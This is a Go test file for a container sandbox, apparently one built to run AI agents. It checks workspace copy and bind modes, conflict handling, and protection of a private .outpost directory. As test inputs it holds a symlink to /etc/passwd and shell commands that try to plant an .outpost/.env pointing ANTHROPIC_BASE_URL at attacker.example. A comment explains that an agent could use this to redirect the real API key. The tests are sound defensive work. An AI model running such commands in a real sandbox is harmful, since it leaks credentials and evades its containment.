package docker_test

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/outposthq/outpost/sandbox/driver"

	"github.com/outposthq/outpost"
	"github.com/outposthq/outpost/internal/tarsafe"
	"github.com/outposthq/outpost/providers/docker"
	"github.com/outposthq/outpost/providers/docker/dockertest"
	"github.com/outposthq/outpost/sandbox"
)

func write(t *testing.T, dir, name, content string) {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, dir, name string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, name))
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

// TestWorkspaceCopy checks copy mode: the directory is copied in without
// .outpost, the host is untouched while the sandbox works, and the
// release copies back exactly what the sandbox changed — new, modified,
// deleted, mode changes — keeping the host's side of a conflict and
// refusing escaping links and writes to .outpost.
func TestWorkspaceCopy(t *testing.T) {
	t.Parallel()
	dockertest.Require(t, dockertest.Busybox)
	host := t.TempDir()
	write(t, host, "a.txt", "one\n")
	write(t, host, "sub/b.sh", "#!/bin/sh\n")
	write(t, host, "del.txt", "delete me\n")
	write(t, host, "host-edit.txt", "host v1\n")
	write(t, host, "both.txt", "base\n")
	write(t, host, "gone/x.txt", "x\n")
	write(t, host, ".outpost/.env", "SECRET=s3cr3t\n")
	if err := os.Symlink("a.txt", filepath.Join(host, "link")); err != nil {
		t.Fatal(err)
	}
	p := dockertest.Provider(t, dockertest.Busybox)
	l, err := sandbox.Acquire(t.Context(), p, driver.Options{Workdir: host})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close(context.Background())

	if got := sh(t, l, "cat a.txt; readlink link; ls -A /workspace | tr '\\n' ' '"); got != "one\na.txt\na.txt both.txt del.txt gone host-edit.txt link sub" {
		t.Errorf("copied in: %q", got)
	}
	sh(t, l, `set -e
echo two > a.txt
mkdir -p new/deeper && echo c > new/deeper/c.txt
rm del.txt
rm -r gone
echo sandbox > both.txt
chmod 755 sub/b.sh
ln -s /etc/passwd evil
ln -s new/deeper/c.txt good-link
mkdir -p .outpost && echo SECRET=stolen > .outpost/.env`)
	// Meanwhile, on the host.
	write(t, host, "host-edit.txt", "host v2\n")
	write(t, host, "both.txt", "host\n")
	if got := read(t, host, "a.txt"); got != "one\n" {
		t.Errorf("host changed before release: a.txt = %q", got)
	}

	err = l.Close(context.Background())
	if !errors.Is(err, driver.ErrConflict) || !errors.Is(err, tarsafe.ErrUnsafe) {
		t.Errorf("Close: %v, want ErrConflict and tarsafe.ErrUnsafe", err)
	}
	for name, want := range map[string]string{
		"a.txt":                            "two\n",
		"new/deeper/c.txt":                 "c\n",
		"host-edit.txt":                    "host v2\n",
		"both.txt":                         "host\n",
		"both.txt" + docker.ConflictSuffix: "sandbox\n",
		".outpost/.env":                    "SECRET=s3cr3t\n",
		"good-link":                        "c\n",
		"sub/b.sh":                         "#!/bin/sh\n",
	} {
		if got := read(t, host, name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	for _, name := range []string{"del.txt", "gone", "evil"} {
		if _, err := os.Lstat(filepath.Join(host, name)); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("%s still exists on the host (%v)", name, err)
		}
	}
	if fi, err := os.Stat(filepath.Join(host, "sub/b.sh")); err != nil || fi.Mode().Perm() != 0o755 {
		t.Errorf("mode of sub/b.sh: %v %v", fi.Mode(), err)
	}
	if entries, _ := os.ReadDir(host); len(entries) == 0 {
		t.Error("host directory emptied")
	} else {
		for _, e := range entries {
			if strings.HasPrefix(e.Name(), ".outpost-sync-") {
				t.Errorf("temporary file %s left behind", e.Name())
			}
		}
	}
}

// TestWorkspaceSyncBetweenTurns copies back while the lease is held, then
// again at release: each copy writes only what changed since the last.
func TestWorkspaceSyncBetweenTurns(t *testing.T) {
	t.Parallel()
	dockertest.Require(t, dockertest.Busybox)
	host := t.TempDir()
	write(t, host, "f", "0\n")
	l := lease(t, dockertest.Provider(t, dockertest.Busybox), driver.Options{Workdir: host})
	sb := l.Sandbox().(*docker.Sandbox)
	sh(t, l, "echo 1 > f")
	if err := sb.SyncWorkspace(t.Context()); err != nil {
		t.Fatal(err)
	}
	if got := read(t, host, "f"); got != "1\n" {
		t.Fatalf("after sync: %q", got)
	}
	// A host edit after the sync is kept: the sandbox did not touch f since.
	write(t, host, "f", "host\n")
	sh(t, l, "echo x > other")
	if err := sb.SyncWorkspace(t.Context()); err != nil {
		t.Fatal(err)
	}
	if got, other := read(t, host, "f"), read(t, host, "other"); got != "host\n" || other != "x\n" {
		t.Errorf("after second sync: f %q, other %q", got, other)
	}
}

// TestWorkspaceBind checks bind mode: changes are live both ways, the
// user is the directory's owner, and .outpost is hidden.
func TestWorkspaceBind(t *testing.T) {
	t.Parallel()
	dockertest.Require(t, dockertest.Busybox)
	host := workdir(t)
	write(t, host, ".outpost/.env", "SECRET=s3cr3t\n")
	write(t, host, "in.txt", "from host\n")
	p := dockertest.Provider(t, dockertest.Busybox, func(o *docker.Options) { o.Workspace = docker.Bind })
	l := lease(t, p, driver.Options{Workdir: host})
	if got := sh(t, l, "cat in.txt; echo from sandbox > out.txt; ls -A .outpost | wc -l"); got != "from host\n0" {
		t.Errorf("in the sandbox: %q", got)
	}
	if got := read(t, host, "out.txt"); got != "from sandbox\n" {
		t.Errorf("on the host, live: %q", got)
	}
	if res := shStatus(t, l, "echo x > .outpost/.env"); res.Status.Success() {
		t.Error("the sandbox wrote .outpost/.env")
	}
	if got := read(t, host, ".outpost/.env"); got != "SECRET=s3cr3t\n" {
		t.Errorf(".outpost/.env = %q", got)
	}
	if os.Getuid() == 0 {
		if got := sh(t, l, "id -u"); got != "1000" {
			t.Errorf("user %q, want the directory's owner 1000", got)
		}
	}
}

// TestWorkspaceBindNoPrivateDir: with no .outpost in the directory, the
// sandbox still cannot make one: an agent must not plant .outpost/.env (a
// base URL of its choosing, which the next turn's gateway would send the
// real key to; issue 43). The empty mount point on the host is the
// directory owner's.
func TestWorkspaceBindNoPrivateDir(t *testing.T) {
	t.Parallel()
	dockertest.Require(t, dockertest.Busybox)
	host := workdir(t)
	write(t, host, "in.txt", "from host\n")
	p := dockertest.Provider(t, dockertest.Busybox, func(o *docker.Options) { o.Workspace = docker.Bind })
	l := lease(t, p, driver.Options{Workdir: host})
	for _, cmd := range []string{
		"echo ANTHROPIC_BASE_URL=http://attacker.example > .outpost/.env",
		"mkdir -p .outpost/x",
		"rm -rf .outpost && mkdir .outpost && echo x > .outpost/.env",
		"mv .outpost .o2 && mkdir .outpost && echo x > .outpost/.env",
	} {
		shStatus(t, l, cmd)
	}
	if _, err := os.Stat(filepath.Join(host, ".outpost/.env")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the sandbox planted .outpost/.env on the host: %v", err)
	}
	entries, err := os.ReadDir(filepath.Join(host, ".outpost"))
	if err != nil || len(entries) != 0 {
		t.Errorf("host .outpost: %v, %v; want an empty directory", entries, err)
	}
	if got := sh(t, l, "cat in.txt"); got != "from host" {
		t.Errorf("in the sandbox: %q", got)
	}
	if os.Getuid() == 0 {
		fi, err := os.Stat(filepath.Join(host, ".outpost"))
		if err != nil {
			t.Fatal(err)
		}
		if st := fi.Sys().(*syscall.Stat_t); st.Uid != 1000 {
			t.Errorf(".outpost owned by %d, want the directory's owner 1000", st.Uid)
		}
	}
	// A .outpost that is not a directory cannot be mounted over: the
	// lease is refused before a container is made.
	linked := workdir(t)
	if err := os.Symlink(t.TempDir(), filepath.Join(linked, ".outpost")); err != nil {
		t.Fatal(err)
	}
	if _, err := sandbox.Acquire(t.Context(), p, driver.Options{Workdir: linked}); outpost.CodeOf(err) != outpost.Configuration || !strings.Contains(fmt.Sprint(err), "not a directory") {
		t.Errorf("Acquire with .outpost a symbolic link: %v, want a configuration error", err)
	}
}

// TestPristineSnapshot: a workspace just copied in is described from the
// archive that copied it (no exec), and exactly as the shim's walk inside
// the container describes it: sizes, nanosecond times, modes, links,
// without .git and .outpost. The first process ends that.
func TestPristineSnapshot(t *testing.T) {
	t.Parallel()
	dockertest.Require(t, dockertest.Busybox)
	host := t.TempDir()
	write(t, host, "a.txt", "one\n")
	write(t, host, "sub/deep/b.sh", "#!/bin/sh\n")
	write(t, host, ".git/config", "[core]\n")
	write(t, host, ".outpost/.env", "SECRET=s3cr3t\n")
	write(t, host, "empty", "")
	if err := os.Chmod(filepath.Join(host, "sub/deep/b.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("a.txt", filepath.Join(host, "link")); err != nil {
		t.Fatal(err)
	}
	old := time.Date(2020, 1, 2, 3, 4, 5, 123456789, time.UTC)
	if err := os.Chtimes(filepath.Join(host, "a.txt"), old, old); err != nil {
		t.Fatal(err)
	}
	p := dockertest.Provider(t, dockertest.Busybox)
	l, err := sandbox.Acquire(t.Context(), p, driver.Options{Workdir: host})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close(context.Background()) })
	s := l.Sandbox().(*docker.Sandbox)
	copied, ok := docker.PristineSnapshot(s, 100)
	if !ok {
		t.Fatal("a sandbox whose workspace was just copied in is not described from the copy")
	}
	if got, err := l.SnapshotWorkspace(t.Context(), 100); err != nil || cmp.Diff(copied, got) != "" {
		t.Fatalf("SnapshotWorkspace = %v, %v; want the snapshot from the copy %v", got, err, copied)
	}
	if got := len(copied.Files); got != 4 {
		t.Errorf("the copied-in snapshot has %d files, want 4: %v", got, copied.Files)
	}
	if _, ok := docker.PristineSnapshot(s, 3); ok {
		t.Error("a snapshot over its limit is taken from the copy: only the walk knows where it stops")
	}
	// A process (it changes nothing) ends that: the next snapshot is the
	// shim's walk.
	runTrue(t, l)
	if _, ok := docker.PristineSnapshot(s, 100); ok {
		t.Fatal("the workspace is described from the copy after a process ran")
	}
	walked, err := l.SnapshotWorkspace(t.Context(), 100)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(walked, copied); d != "" {
		t.Errorf("the snapshot from the copy differs from the walk inside the container (-walk +copy):\n%s", d)
	}
	if copied.Files["a.txt"].ModTime != old.UnixNano() {
		t.Errorf("a.txt: %+v, want its time %v kept to the nanosecond", copied.Files["a.txt"], old)
	}
}

func runTrue(t *testing.T, l *sandbox.Lease) {
	t.Helper()
	pr, err := l.Start(t.Context(), driver.ExecRequest{Path: "/bin/true", Env: map[string]string{"PATH": "/bin"}})
	if err != nil {
		t.Fatal(err)
	}
	if st, err := pr.Wait(); err != nil || !st.Success() {
		t.Fatalf("/bin/true: %+v %v", st, err)
	}
	pr.Close()
}
